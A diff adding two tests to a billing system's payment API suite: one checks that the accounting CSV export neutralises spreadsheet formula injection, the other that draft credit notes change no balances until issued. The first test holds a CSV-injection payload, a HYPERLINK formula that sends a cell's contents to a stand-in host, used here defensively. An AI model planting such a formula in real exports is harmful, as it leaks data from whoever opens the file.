@@ -432,4 +432,69 @@ describe("R-PAY-01 payments over HTTP", () => {
     assert.equal(b.json().id, a.json().id);
     assert.equal(b.headers["idempotent-replayed"], "true");
   });
+  it("the accounting export's CSV never hands a spreadsheet a formula: text fields starting with = + - @ are quoted as text", async () => {
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    const paid = await call(as.clerk, "POST", "/api/bss/payments", {
+      accountId: payer,
+      method: "cash",
+      paidOn: "2026-03-02",
+      amount: "0.01",
+      reference: evil,
+      note: "@SUM(1+1)",
+      auto: false,
+    });
+    assert.equal(paid.statusCode, 201, paid.body);
+    const csv = await call(
+      as.viewer,
+      "GET",
+      "/api/bss/accounting-export?from=2026-03-02&to=2026-03-02&format=csv",
+    );
+    assert.equal(csv.statusCode, 200, csv.body);
+    const row = parseCsv(csv.body).find((l) => l[3] === "payment")!;
+    assert.ok(row, csv.body);
+    assert.equal(row[2], `'${evil}`, "the reference is text, not a formula");
+    assert.doesNotMatch(row[6]!, /^[=+\-@]/);
+    // Amounts stay numbers (a negative payment is not text).
+    assert.equal(row[12], "-0.01");
+  });
+  it("R-DOC-01 R-PAY-01 a draft credit note counts nowhere: settlement, balance, statement, export, Storefront; issued, it counts", async () => {
+    const inv = (await invoices()).find(
+      (d) => d.paymentStatus !== "paid" || d.outstanding.decimal !== "0.00",
+    )!;
+    const snapshot = async () => ({
+      detail: (({ paid, credited, outstanding, paymentStatus }) => ({
+        paid,
+        credited,
+        outstanding,
+        paymentStatus,
+      }))((await call(as.viewer, "GET", `/api/bss/documents/${inv.id}`)).json()),
+      balance: (await call(as.viewer, "GET", `/api/bss/accounts/${payer}/balance`)).json(),
+      statement: (
+        await call(as.viewer, "GET", `/api/bss/accounts/${payer}/statement?from=2026-01-01&to=2026-12-31`)
+      ).json(),
+      export: (
+        await call(as.viewer, "GET", "/api/bss/accounting-export?from=2026-01-01&to=2026-12-31&format=csv")
+      ).body,
+      storefront: (await call(as.sfA, "GET", "/api/storefront/documents?limit=100")).json().total,
+    });
+    const before = await snapshot();
+    const draft = await call(as.clerk, "POST", "/api/bss/credit-notes", {
+      invoiceId: inv.id,
+      reason: "Under discussion",
+      whole: true,
+    });
+    assert.equal(draft.statusCode, 201, draft.body);
+    const id = draft.json().id as string;
+    assert.deepEqual(await snapshot(), before, "the draft changes nothing a clerk or customer reads");
+    for (const url of [`/api/storefront/documents/${id}`, `/api/storefront/documents/${id}/pdf`])
+      assert.equal((await call(as.sfA, "GET", url)).statusCode, 404, url);
+    // Issued, it settles the invoice and lowers the balance by its gross.
+    const issued = await call(as.clerk, "POST", `/api/bss/credit-notes/${id}/issue`);
+    assert.equal(issued.statusCode, 200, issued.body);
+    const after = await snapshot();
+    assert.equal(after.detail.paymentStatus, "paid");
+    const home = (b: typeof before.balance) => BigInt(b.balances[0].balance.minor);
+    assert.equal(home(after.balance) - home(before.balance), BigInt(issued.json().gross.minor));
+    assert.equal(after.storefront, before.storefront + 1);
+  });
 });
